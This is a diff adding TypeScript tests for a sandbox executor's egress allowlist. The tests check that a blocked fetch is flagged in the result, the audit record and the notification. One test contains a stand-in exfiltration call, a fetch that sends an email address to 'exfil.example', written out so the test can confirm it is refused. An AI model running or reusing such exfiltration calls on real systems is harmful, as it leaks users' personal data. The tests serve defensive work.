@@ -4,6 +4,7 @@ import { Catalog } from '../catalog/index.js';
 import { BUILTIN_DETECTORS, createPrivacy, createRedactor } from '../privacy/index.js';
 import { createQuickJsEngine } from '../sandbox/index.js';
 import type { ToolInvoker } from './bridge.js';
+import { createEgress } from './egress.js';
 import { executeProgram, type RuntimeOptions } from './execute.js';
 import type { ExecuteContext } from './oversight.js';
 
@@ -119,6 +120,34 @@ describe('executeProgram flags', () => {
       'call-volume: 6 tool calls in one run (threshold 5)',
     ]);
     expect(sent).toEqual([{ kinds: ['probe', 'probe', 'destructive', 'shell', 'call-volume'], auditId: result.auditId }]);
+  });
+});
+
+describe('executeProgram egress flag', () => {
+  it('flags a fetch refused by the allowlist, in the result, the audit record and the notification', async () => {
+    // Refused on the allowlist before any DNS lookup or connection, so no network is needed.
+    const egress = createEgress({ allow: [{ origin: 'https://api.example.com' }], timeoutMs: 1_000, maxResponseBytes: 10_000, maxRedirects: 2 });
+    const { run, sink } = setup({ egress });
+    const sent: string[] = [];
+    const result = await run(
+      'try { await fetch("https://exfil.example/collect?d=ada@example.com"); } catch (e) { return e.code; }',
+      { onFlags: (flags) => sent.push(...flags.map((f) => f.kind)) },
+    );
+    expect(result.text).toBe('EGRESS_DENIED');
+    const flag = { kind: 'egress-blocked', message: 'a fetch was refused by the egress allowlist', call: '__cemcp_fetch.request' };
+    expect(result.flags).toEqual([flag]);
+    expect(sent).toEqual(['egress-blocked']);
+    const record = sink.records[0]!;
+    expect(record.flags).toEqual([flag]);
+    expect(record.calls).toEqual([expect.objectContaining({ ok: false, errorCode: 'EGRESS_DENIED' })]);
+    expect(JSON.stringify(record.flags)).not.toContain('exfil');
+  });
+
+  it('does not flag a program with fetch that stays within the allowlist', async () => {
+    const { run } = setup({ egress: createEgress({ allow: [], timeoutMs: 1_000, maxResponseBytes: 10_000, maxRedirects: 2 }) });
+    const result = await run('return typeof fetch;');
+    expect(result.text).toBe('function');
+    expect(result.flags).toEqual([]);
   });
 });
 
